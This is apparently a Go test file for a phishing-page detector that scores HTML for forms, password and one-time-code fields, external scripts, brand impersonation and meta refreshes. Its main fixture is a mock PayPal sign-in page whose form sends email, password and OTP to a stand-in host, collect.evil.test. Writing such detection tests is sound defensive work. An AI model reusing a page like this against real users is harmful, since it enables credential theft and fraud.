package decode

import "testing"

const credentialPage = `<html><head><title>Sign in to your PayPal account</title></head>
<body>
<script src="https://cdn.evil.test/track.js"></script>
<form action="https://collect.evil.test/submit">
<input type="text" name="email">
<input type="password" name="pass">
<input type="text" name="otp_code" placeholder="one-time code">
</form>
<a href="https://evil.test/more">Verify your account</a>
<iframe src="https://frames.test/x"></iframe>
</body></html>`

func TestCompactHTMLCredentialPage(t *testing.T) {
	view := NewDecoder(DefaultBudget()).CompactHTML(credentialPage)

	if view.Title != "Sign in to your PayPal account" {
		t.Errorf("Unexpected title %q", view.Title)
	}
	if view.FormCount != 1 {
		t.Errorf("Expected 1 form, got %d", view.FormCount)
	}
	if view.PasswordFields != 1 {
		t.Errorf("Expected 1 password field, got %d", view.PasswordFields)
	}
	if view.OTPFields != 1 {
		t.Errorf("Expected 1 otp field, got %d", view.OTPFields)
	}
	if view.Iframes != 1 {
		t.Errorf("Expected 1 iframe, got %d", view.Iframes)
	}
	if len(view.ExternalScripts) != 1 {
		t.Errorf("Expected external script, got %v", view.ExternalScripts)
	}

	foundBrand := false
	for _, b := range view.BrandHits {
		if b == "paypal" {
			foundBrand = true
		}
	}
	if !foundBrand {
		t.Errorf("Expected paypal brand hit, got %v", view.BrandHits)
	}

	if view.ImpersonationScore <= 0 || view.ImpersonationScore > 100 {
		t.Errorf("Impersonation score out of bounds: %d", view.ImpersonationScore)
	}
}

func TestCompactHTMLScriptTextIgnored(t *testing.T) {
	view := NewDecoder(DefaultBudget()).CompactHTML(
		`<html><script>var password = "verify login";</script><p>harmless</p></html>`)

	for _, text := range view.VisibleText {
		if text != "harmless" {
			t.Errorf("Script content leaked into visible text: %q", text)
		}
	}
	if len(view.SuspiciousKeywords) != 0 {
		t.Errorf("Keywords must not match inside script, got %v", view.SuspiciousKeywords)
	}
}

func TestCompactHTMLMetaRefresh(t *testing.T) {
	view := NewDecoder(DefaultBudget()).CompactHTML(
		`<meta http-equiv="refresh" content="0; url=https://next.test/landing">`)

	if len(view.MetaRefreshTargets) != 1 || view.MetaRefreshTargets[0] != "https://next.test/landing" {
		t.Errorf("Unexpected refresh targets %v", view.MetaRefreshTargets)
	}
}

func TestCompactHTMLBenignPage(t *testing.T) {
	view := NewDecoder(DefaultBudget()).CompactHTML(
		`<html><head><title>Weekly digest</title></head><body><p>Nothing to see</p></body></html>`)

	if view.ImpersonationScore != 0 {
		t.Errorf("Expected zero impersonation score, got %d", view.ImpersonationScore)
	}
	if view.FormCount != 0 || view.PasswordFields != 0 {
		t.Error("Benign page must carry no form features")
	}
}
